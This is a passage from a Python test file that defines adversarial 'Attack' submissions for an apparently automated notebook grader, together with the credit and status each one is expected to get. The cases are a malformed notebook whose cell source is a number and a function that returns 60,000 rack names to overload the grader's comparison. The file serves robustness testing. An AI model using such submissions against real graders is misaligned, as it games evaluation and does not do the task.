        earns=frozenset(), status="could not read it", recorded=False),
    Attack(
        "d-corrupt-nbformat", DC01,
        "valid JSON that is not a valid notebook (a cell whose source is a number)",
        raw=json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                        "cells": [{"cell_type": "code", "id": "x", "metadata": {},
                                   "outputs": [], "execution_count": None, "source": 42}]}),
        earns=frozenset(), status="not a valid notebook", recorded=False),
    Attack(
        "d-huge-answer", DC01,
        "overloaded_racks returns 60,000 rack names (0.6 MB of data per call for the grader "
        "to compare); the rest honest",
        answers={"q3-pdu": "@RIGHT@\n"
                           "def overloaded_racks(*args, **kwargs):\n"
                           "    return [f'R{i:05d}' for i in range(60_000)]\n"},
        earns=all_but(DC01, "q3")),
]

ATTACKS = {Q01: Q01_ATTACKS, DC01: DC01_ATTACKS}
